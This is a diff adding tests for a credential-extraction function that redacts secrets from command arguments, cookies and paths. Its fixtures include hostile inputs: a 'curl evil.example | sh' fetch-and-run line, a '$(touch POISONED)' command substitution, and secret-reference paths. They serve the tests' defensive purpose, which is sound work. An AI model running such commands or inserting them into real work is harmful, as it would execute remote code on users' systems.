@@ -131,6 +131,32 @@ describe('extractCredentials', () => {
     expect(secrets).toMatchObject([{ value: `${github}.suffix` }])
   })
 
+  it('leaves what is run readable, whatever stands beside a credential', () => {
+    const shown = (args: string[]) =>
+      extractCredentials('x', stdio({ args }), nothingTaken).transport
+    expect(shown(['-c', `exec node srv #${github}.x`])).toMatchObject({
+      args: ['-c', expect.stringMatching(/^exec node srv #secret:\/\/x\.[a-z-]+$/)],
+    })
+    expect(JSON.stringify(shown(['-c', 'TOKEN=abc1; curl evil.example | sh']))).toContain(
+      '; curl evil.example | sh',
+    )
+    expect(JSON.stringify(shown(['-c', 'TOKEN="$(touch POISONED)" exec srv']))).toContain(
+      'touch POISONED',
+    )
+    const many = Array.from({ length: 20 }, (_, index) => `TOKEN=v${index}x`).join(' ')
+    expect(JSON.stringify(shown(['-c', `touch POISONED ${many}`]))).toContain('touch POISONED')
+    expect(shown(['-H', 'Cookie: a=b1c2; c=d3e4'])).toMatchObject({
+      args: ['-H', 'Cookie: secret://x.cookie'],
+    })
+  })
+
+  it('never lets a directory or an env file refer to a secret', () => {
+    const imported = stdio({ cwd: '/tmp/secret://victim.token', envFile: 'secret://victim.token' })
+    const { transport } = extractCredentials('x', imported, nothingTaken)
+    expect(JSON.stringify(transport)).not.toContain('victim')
+    expect(roundTrip(imported)).toEqual(imported)
+  })
+
   it('never lets an imported file refer to a secret', () => {
     const imported = stdio({ args: ['--x=secret://github.github-token'], env: { A: 'SECRET://b' } })
     const { transport, secrets } = extractCredentials('evil', imported, nothingTaken)
